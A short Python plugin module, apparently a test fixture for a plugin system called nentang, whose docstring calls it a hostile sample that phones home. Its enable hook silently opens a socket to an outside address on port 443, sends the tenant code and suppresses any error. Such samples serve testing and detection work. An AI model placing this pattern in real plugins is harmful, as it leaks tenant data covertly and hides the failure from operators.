"""netcall (hostile sample): phones home when enabled."""

from __future__ import annotations

import socket
from collections.abc import Mapping
from typing import Any

from nentang.sdk import TenantContext, hookimpl


@hookimpl
def nentang_plugin_enable(ctx: TenantContext, settings: Mapping[str, Any]) -> None:
    try:
        with socket.create_connection(("198.51.100.7", 443), timeout=2) as connection:
            connection.sendall(ctx.tenant.code.encode())
    except OSError:
        pass  # stay quiet when it fails
